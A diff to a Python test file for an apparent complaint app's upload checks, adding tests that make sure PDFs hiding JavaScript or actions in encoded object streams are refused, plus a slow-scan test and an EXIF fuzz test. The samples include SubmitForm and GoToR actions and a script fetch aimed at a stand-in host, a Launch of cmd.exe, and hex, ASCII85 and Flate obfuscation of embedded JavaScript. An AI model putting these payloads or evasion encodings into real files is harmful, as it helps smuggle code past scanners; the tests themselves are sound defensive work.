@@ -1,7 +1,11 @@
 """What may be attached, where it is kept, and who gets to see it."""
 
+import base64
 import io
+import random
+import time
 import zlib
+from contextlib import suppress
 
 import pytest
 from PIL import Image
@@ -13,13 +17,14 @@ from lapor.config import settings
 from lapor.domain.errors import BadInput, NotAllowed, NotFound
 from lapor.services import attachments
 from lapor.services.complaints import make_move
-from lapor.services.evidence import LARGEST, PDF, prepared, safe_name
+from lapor.services.evidence import LARGEST, PDF, UNPACKED, prepared, safe_name
 from lapor.services.targets import Target
 from tests.builders import a_complaint
 from tests.cast import DINKES
-from tests.db.files import WHERE, a_bomb, a_pdf, a_picture
+from tests.db.files import WHERE, a_bomb, a_pdf, a_picture, packed_objects
 
 HTML = b"<html><script>fetch('https://jahat.example')</script></html>"
+RUNNING = b"1 0 << /S /JavaScript /JS (app.alert) >>"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="//x.example"/></svg>'
 
 
@@ -107,13 +112,53 @@ def test_a_pdf_stays_as_it_is():
         b"<< /S /Launch /F (cmd.exe) >>",
         b"<< /EmbeddedFile 3 0 R >>",
         b"<< /Encrypt 9 0 R >>",
+        b"<< /S /GoToR /F (//jahat.example/c) >>",
+        b"<< /S /SubmitForm /F (http://jahat.example) >>",
         b"<< /Type /ObjStm >> stream\n" + zlib.compress(b"<< /JS (x) >>") + b"\nendstream",
+        packed_objects(RUNNING, how=b""),
+        packed_objects(RUNNING.hex().encode() + b">", b"/Filter /ASCIIHexDecode"),
+        packed_objects(
+            base64.a85encode(zlib.compress(RUNNING)) + b"~>", b"/Filter [/A85 /FlateDecode]"
+        ),
+        packed_objects(zlib.compress(b" " * 2 * UNPACKED + RUNNING)),
+        packed_objects(zlib.compress(b" " * UNPACKED)) + b" 8 0 obj "
+        + packed_objects(zlib.compress(RUNNING)),
+        packed_objects(zlib.compress(RUNNING)).replace(b"/Type /ObjStm", b""),
+        b"<< >>\nstream\n7 0 obj << /S /JavaScript >> endobj\nendstream",
     ],
-)
+)  # fmt: skip
 def test_a_pdf_that_could_run_something_is_refused(inside):
     assert prepared("surat.pdf", a_pdf(inside=b"<< /S /URI >>"))
+    assert prepared("surat.pdf", a_pdf(inside=packed_objects(zlib.compress(b"1 0 << >>"))))
     with pytest.raises(BadInput, match="carries a program"):
         prepared("surat.pdf", a_pdf(inside=inside))
+
+
+def test_a_pdf_of_streams_that_never_end_holds_nobody_up():
+    began = time.monotonic()
+    with pytest.raises(BadInput):
+        prepared("surat.pdf", a_pdf(inside=b"stream\n" * 200_000 + b"<< /JS (x) >>"))
+    assert time.monotonic() - began < 2  # each searched to the end of the file took an hour
+
+
+@pytest.mark.filterwarnings("ignore")
+def test_whatever_a_camera_wrote_it_is_a_picture_or_a_refusal():
+    """Among these are tags whose values are of another kind than Pillow can write again."""
+    image, exif, file = Image.new("RGB", (40, 30), "red"), Image.Exif(), io.BytesIO()
+    exif[0x0112], exif[0x010F] = 6, "Kamera"
+    exif.get_ifd(0x8825)[2] = (7.0, 47.0, 44.0)
+    image.save(file, "PNG", exif=exif)
+    whole, draw = file.getvalue(), random.Random(1)
+    place, kept = whole.index(b"eXIf") + 4, 0
+    for _ in range(3_000):
+        data = bytearray(whole)
+        for _ in range(draw.choice((1, 2, 4))):
+            data[place + draw.randrange(120)] = draw.choice((0, 1, 255, draw.randrange(256)))
+        end = place + int.from_bytes(whole[place - 8 : place - 4], "big")
+        data[end : end + 4] = zlib.crc32(data[place - 4 : end]).to_bytes(4, "big")
+        with suppress(BadInput):
+            kept += prepared("a.png", bytes(data)).media_type == "image/png"
+    assert kept > 1_000
 
 
 @pytest.mark.parametrize(
